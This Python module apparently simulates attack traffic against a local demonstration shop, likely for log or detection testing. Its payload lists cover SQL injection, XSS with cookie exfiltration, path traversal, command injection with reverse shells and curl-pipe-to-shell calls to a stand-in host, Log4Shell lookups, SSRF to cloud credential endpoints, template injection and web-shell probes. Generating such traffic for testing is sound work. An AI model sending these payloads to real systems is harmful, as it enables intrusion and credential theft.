"""Attacks in a request itself: one line is enough to see each of them.

The payloads are of the kinds that common tools and public write-ups use; they are sent to the
demonstration shop on this machine only, which is not vulnerable to any of them.
"""

from __future__ import annotations

from dataclasses import replace
from urllib.parse import quote, quote_plus

from crowd.step import Step, Steps, Visit

_SQL = (
    "1' OR '1'='1", "' UNION SELECT NULL,NULL,version()-- -", "1) AND SLEEP(5)-- -",
    "1;SELECT PG_SLEEP(5)--", "x' AND 1=CAST((SELECT email FROM auth_user LIMIT 1) AS int)--",
    "1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT database())))-- -", "-1' UNION/**/SELECT/**/1,2,3#",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*) FROM INFORMATION_SCHEMA.TABLES GROUP BY FLOOR(1))a)",
    "1 ORDER BY 12-- -", "admin'--",
    "1' WAITFOR DELAY '0:0:5'--", "%' AND BENCHMARK(5000000,MD5('a')) AND '%'='",
)  # fmt: skip
_XSS = (
    "<script>alert(document.cookie)</script>",
    "\"><svg/onload=fetch('//192.0.2.9/'+document.cookie)>",
    "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>",
    "<body onload=alert('xss')>", "'-alert(1)-'", "<details open ontoggle=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", '<a href="jav&#x61;script:alert(1)">x</a>',
)  # fmt: skip
_PASSWD = (
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd",
    "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "..%5c..%5cwindows%5cwin.ini",
)  # fmt: skip
_COMMANDS = (
    ";cat /etc/passwd", "|id", "$(curl http://192.0.2.9/x.sh|sh)", "`wget -qO- 192.0.2.9/x`",
    "&& whoami", "127.0.0.1;uname -a", "|nc -e /bin/sh 192.0.2.9 4444", "%0acat%20/etc/shadow",
    "a;bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "& ping -c 5 192.0.2.9 &",
)  # fmt: skip
_LOOKUPS = (
    "${jndi:ldap://192.0.2.9:1389/a}", "${jndi:rmi://192.0.2.9/x}",
    "${${lower:j}ndi:${lower:l}dap://192.0.2.9/b}", "${${::-j}${::-n}${::-d}${::-i}:dns://192.0.2.9/c}",
    "${j${k8s:k5:-ND}i:ldap://192.0.2.9/d}",
)  # fmt: skip
_INSIDE = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/",
    "http://100.100.100.200/latest/user-data", "gopher://127.0.0.1:6379/_FLUSHALL",
    "http://localhost/server-status", "file:///etc/passwd", "http://2130706433/admin",
    "http://metadata.google.internal/computeMetadata/v1/",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "{{config.items()}}", "#{7*7}", "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime()}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
)  # fmt: skip
_INCLUDED = (
    "php://filter/convert.base64-encode/resource=index.php", "expect://id", "php://input",
    "phar://upload.jpg/x", "http://192.0.2.9/shell.txt?", "data:text/plain;base64,PD9waHAgPz4=",
)  # fmt: skip
_SHELLS = (
    "/shell.php?cmd=id", "/c99.php", "/r57.php", "/wso.php", "/media/images/avatar.php?c=whoami",
    "/uploads/cmd.jsp?cmd=ls", "/behinder.jsp", "/static/img/x.aspx?cmd=dir", "/1.php?pass=eval",
    "/media/uploads/shell.jsp", "/antsword.php", "/b374k.php", "/china.php",
    "/ma.php?cmd=cat+/etc/passwd",
)  # fmt: skip

_PLACES = (
    "/search/?q={}",
    "/catalogue/?sort_by={}",
    "/search/?q=%E8%8C%B6&page={}",
    "/catalogue/?page={}",
)


def _in_query(visit: Visit, payload: str) -> Step:
    """The payload in a parameter, encoded as tools do: fully, with plus signs, or hardly at all."""
    encode = visit.rng.choice((quote_plus, lambda text: quote(text, safe="/;()=,'*:|$`!-")))
    target = visit.rng.choice(_PLACES).format(encode(payload))
    return visit.raw("GET", target, "search", after=visit.rng.uniform(0.5, 3))


def sql_injection(visit: Visit) -> Steps:
    for payload in visit.rng.sample(_SQL, visit.rng.randint(6, len(_SQL))):
        yield _in_query(visit, payload)


def xss(visit: Visit) -> Steps:
    yield visit.get("/catalogue/", "listing", after=0)
    for payload in visit.rng.sample(_XSS, visit.rng.randint(4, len(_XSS))):
        yield _in_query(visit, payload)


def path_traversal(visit: Visit) -> Steps:
    for payload in visit.rng.sample(_PASSWD, visit.rng.randint(4, len(_PASSWD))):
        place = visit.rng.choice(("/static/{}", "/media/images/{}", "/search/?q={}"))
        if payload.startswith("/"):
            place = "/search/?q={}"
        target = place.format(payload.replace("\\", "%5c"))
        yield visit.raw("GET", target, "missing", after=visit.rng.uniform(0.6, 2.5), status=404)


def command_injection(visit: Visit) -> Steps:
    for payload in visit.rng.sample(_COMMANDS, visit.rng.randint(4, len(_COMMANDS))):
        yield _in_query(visit, payload)


def template_injection(visit: Visit) -> Steps:
    for payload in visit.rng.sample(_TEMPLATES, visit.rng.randint(4, len(_TEMPLATES))):
        yield _in_query(visit, payload)


def ssrf(visit: Visit) -> Steps:
    """Addresses inside, where the shop is asked to fetch a picture."""
    for payload in visit.rng.sample(_INSIDE, visit.rng.randint(4, len(_INSIDE))):
        target = f"/search/?image={quote(payload, safe=visit.rng.choice((':/', '')))}"
        yield visit.raw("GET", target, "missing", after=visit.rng.uniform(0.8, 3), status=404)


def file_inclusion(visit: Visit) -> Steps:
    for payload in visit.rng.sample(_INCLUDED, visit.rng.randint(4, len(_INCLUDED))):
        target = f"/search/?page={quote(payload, safe=visit.rng.choice((':/=', '')))}"
        yield visit.raw("GET", target, "missing", after=visit.rng.uniform(0.8, 3), status=404)


def log4shell(visit: Visit) -> Steps:
    """The lookup in the places that servers log: user agent, referrer, query."""
    for payload in visit.rng.sample(_LOOKUPS, visit.rng.randint(3, len(_LOOKUPS))):
        step = visit.raw("GET", "/catalogue/", "listing", after=visit.rng.uniform(1, 4))
        place = visit.rng.random()
        if place < 0.4:
            yield replace(step, client=visit.client._replace(agent=payload))
        elif place < 0.6:
            yield replace(step, referrer=payload)
        else:
            yield replace(step, target=f"/search/?q={quote(payload, safe=':/')}")


def web_shell(visit: Visit) -> Steps:
    """Looking for a back door that somebody else left, finding it, using it."""
    for target in visit.rng.sample(_SHELLS, visit.rng.randint(6, len(_SHELLS))):
        yield visit.raw("GET", target, "missing", after=visit.rng.uniform(0.5, 2), status=404)
    for command in ("id", "ls+-la", "cat+config.php"):  # and one is there
        target = f"/media/images/avatar.php?cmd={command}"
        yield visit.raw("GET", target, "refused", after=visit.rng.uniform(4, 9))
